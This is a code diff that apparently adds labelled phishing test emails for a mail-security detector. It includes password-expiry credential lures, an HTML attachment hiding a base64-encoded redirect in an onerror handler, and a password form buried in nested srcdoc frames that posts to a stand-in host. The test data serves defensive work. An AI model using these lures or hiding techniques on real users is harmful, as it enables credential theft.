@@ -2180,22 +2180,49 @@ def review36_samples():
     expiry = ("Contoso\n\nYour password will expire in 14 days.\n\n"
               "Update your password now to avoid being locked out.\n%s\n\n"
               "If you have questions, contact the service desk: %s\n")
-    # The IT desk's notice sends the reader to Microsoft's password page
-    # and the organisation's service desk: no lure ...
+    # The IT desk's notice, internal (Exchange marks it so), sends the
+    # reader to Microsoft's password page and the organisation's service
+    # desk: no lure ...
+    internal = "X-MS-Exchange-Organization-AuthAs: Internal\n"
     write("en-391-clean-own-password-expiry.eml",
+          internal + headers("Contoso IT <noreply@contoso.com>",
+                             "Your password expires in 14 days") +
+          plain(expiry % ("https://account.activedirectory.windowsazure.com/"
+                          "ChangePassword.aspx",
+                          "https://servicedesk.contoso.com/sp")),
+          "clean", "!content.credential_request")
+    # ... the same words with a link elsewhere are one, and so are they
+    # with a site named like the organisation (anyone may take
+    # contoso.<service>), or from a From of its domain Exchange did not
+    # mark internal nor find authentic.
+    write("en-392-own-password-expiry-elsewhere.eml",
+          internal + headers("Contoso IT <noreply@contoso.com>",
+                             "Your password expires in 14 days") +
+          plain(expiry % ("https://pw-reset-portal.example/reset",
+                          "https://servicedesk.contoso.com/sp")),
+          "potential", "content.credential_request")
+    write("en-421-own-password-expiry-named-site.eml",
+          internal + headers("Contoso IT <noreply@contoso.com>",
+                             "Your password expires in 14 days") +
+          plain(expiry % ("https://contoso.sso-reset.example/reset",
+                          "https://servicedesk.contoso.com/sp")),
+          "potential", "content.credential_request")
+    write("en-422-own-password-expiry-unauthenticated.eml",
           headers("Contoso IT <noreply@contoso.com>",
                   "Your password expires in 14 days") +
           plain(expiry % ("https://account.activedirectory.windowsazure.com/"
                           "ChangePassword.aspx",
-                          "https://contoso.service-now.com/sp")),
-          "clean", "!content.credential_request")
-    # ... the same words with a link elsewhere are one.
-    write("en-392-own-password-expiry-elsewhere.eml",
-          headers("Contoso IT <noreply@contoso.com>",
-                  "Your password expires in 14 days") +
-          plain(expiry % ("https://pw-reset-portal.example/reset",
-                          "https://contoso.service-now.com/sp")),
+                          "https://servicedesk.contoso.com/sp")),
           "potential", "content.credential_request")
+    # Anyone's Jira site on Atlassian's cloud is no home of the
+    # organisation's, nor Atlassian's own page.
+    write("en-423-own-mail-jira-site.eml",
+          internal + headers("Contoso IT <noreply@contoso.com>",
+                             "Your password expires in 14 days") +
+          plain(expiry % ("https://contoso-itsec.atlassian.net/servicedesk/"
+                          "customer/portal/1",
+                          "https://servicedesk.contoso.com/sp")),
+          "threat", "content.credential_request", "url.free_hosting")
     # A correspondent's reply quotes the reader's own mail: the
     # reader's address on the From line of the quoted header block
     # greets nobody.
@@ -2223,6 +2250,16 @@ def review36_samples():
                 "宛先: 李 <li@fabrikam.com>\n件名: 請求書の送付\n\n"
                 "請求書をお送りください。\n"),
           "clean", "!content.address_greeting")
+    # A header block that opens the text quotes nothing of the
+    # writer's: a lure beginning so still greets the reader by address.
+    write("en-430-fake-quoted-header-top.eml",
+          headers("Mail Admin <admin@mailbox-notice.example>",
+                  "RE: mailbox quota") +
+          plain("From: Taro Yamada <taro.yamada@contoso.com>\nSent: Monday, "
+                "November 2, 2026 9:00 AM\nTo: Mail Admin\nSubject: mailbox "
+                "quota\n\nYour mailbox is full. Open "
+                "https://mailbox-notice.example/q to keep your mail.\n"),
+          "threat", "content.address_greeting")
     # An invoicing service writes for a correspondent, replies to it.
     write("en-394-clean-invoice-service-replyto-corr.eml",
           headers("Fabrikam via Billflow <invoices@billflow.example>",
@@ -2273,6 +2310,12 @@ def review36_samples():
           plain("Your order BBY01-806512345 has shipped.\nTrack it: "
                 "https://www.bestbuy.com/profile/ss/orders"),
           "clean", "!sender.display_brand")
+
+
+def html_escape(t):
+    """t as an attribute's value in double quotes."""
+    return (t.replace("&", "&amp;").replace('"', "&quot;")
+            .replace("<", "&lt;").replace(">", "&gt;"))
 
 
 def review37_samples():
@@ -2376,6 +2419,73 @@ def review37_samples():
               "document.title=title;</script></body></html>").encode()) +
           "\n--b1--\n", "potential", "attach.html",
           "!attach.html_redirect", "!attach.html_hidden_redirect")
+
+    # Review 38: what a page's scripts do with a location that is not
+    # the browser's (an object's property, a variable so named), a page
+    # fetched by a library for its caller, a video framed the size of
+    # the window: no redirect ...
+    def report(fname, html, verdict, *rules):
+        write(fname, headers("Emily Chen <emily.chen@fabrikam.com>",
+                             "Usage report") +
+              'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
+              "Content-Type: text/plain; charset=utf-8\n\nThe report is "
+              "attached.\n\n--b1\nContent-Type: text/html; name=\"report."
+              'html"\nContent-Disposition: attachment; filename="report.'
+              'html"\nContent-Transfer-Encoding: base64\n\n' +
+              b64(html.encode()) + "\n--b1--\n", verdict, *rules)
+
+    report("en-424-html-library-code.eml",
+           "<!DOCTYPE html><html><body><div id='c'></div><script>"
+           "/* https://d3js.org v7 */function ec(t,n){return fetch(t,n)."
+           "then(function(r){return r.text()})}function load(u){ec(u)."
+           "then(function(h){document.getElementById('c').innerHTML=h})}"
+           "var cfg={location:'reports/'};function Pkg(o){this.location="
+           "o.location}var location=cfg.location;location=location+'q4';"
+           "var rows=[3,2,1].reverse();var q=decodeURIComponent("
+           "window.location.hash.slice(1));</script></body></html>",
+           "potential", "attach.html", "!attach.html_redirect",
+           "!attach.html_hidden_redirect")
+    report("en-425-html-video-frame.eml",
+           "<!DOCTYPE html><html><body><iframe src='https://www.youtube.com"
+           "/embed/dQw4w9WgXcQ' style='width:100%;height:100%;border:0'>"
+           "</iframe></body></html>", "potential", "attach.html",
+           "!attach.html_redirect")
+    # ... while the redirect split between two scripts, or in an
+    # element's onerror, and a password form two srcdoc frames deep,
+    # are found.
+    mail("en-426-html-split-scripts.eml", "Remittance.html", "text/html",
+         "<!DOCTYPE html><html><body><script>var u=atob('%s');</script>"
+         "<img src='x' onerror=\"window.location.replace(u)\"></body>"
+         "</html>" % base64.b64encode(url.encode()).decode(),
+         "threat", "attach.html_redirect")
+    inner = ('<form action="https://remit-portal.example/p.php">Password '
+             '<input type="password" name="p"></form>')
+    mail("en-427-html-srcdoc-twice.eml", "Remittance.html", "text/html",
+         '<!DOCTYPE html><html><body><iframe srcdoc="%s"></iframe></body>'
+         '</html>' % html_escape('<iframe srcdoc="%s"></iframe>' %
+                                 html_escape(inner)),
+         "threat", "attach.html_credential_form")
+    # An SVG logo linking to its sender's own site is a logo.
+    write("en-428-clean-svg-logo.eml",
+          headers("Emily Chen <emily.chen@northwind.example>", "Logo") +
+          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
+          "Content-Type: text/plain; charset=utf-8\n\nOur new logo.\n\n"
+          '--b1\nContent-Type: image/svg+xml; name="logo.svg"\n'
+          'Content-Disposition: attachment; filename="logo.svg"\n'
+          "Content-Transfer-Encoding: base64\n\n" + b64(
+              b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http:'
+              b'//www.w3.org/1999/xlink" width="200" height="60"><a xlink:'
+              b'href="https://www.northwind.example/"><rect width="200" '
+              b'height="60" fill="#123"/></a></svg>') + "\n--b1--\n",
+          "clean", "!attach.svg_link")
+    # A brand's name with an underscore in a label before it is the
+    # brand's name shown.
+    write("en-429-text-underscore-brand.eml",
+          headers("Service <service@account-notice.example>", "Account") +
+          "Content-Type: text/html; charset=utf-8\n\n<html><body><p><a "
+          "href=\"https://account-notice.example/login\">secure_login."
+          "paypal.com</a></p></body></html>\n",
+          "potential", "url.text_mismatch_brand")
 
     # Links Windows hands to a program of its own: a share on the
     # Internet opened by the file manager or Windows Search ...
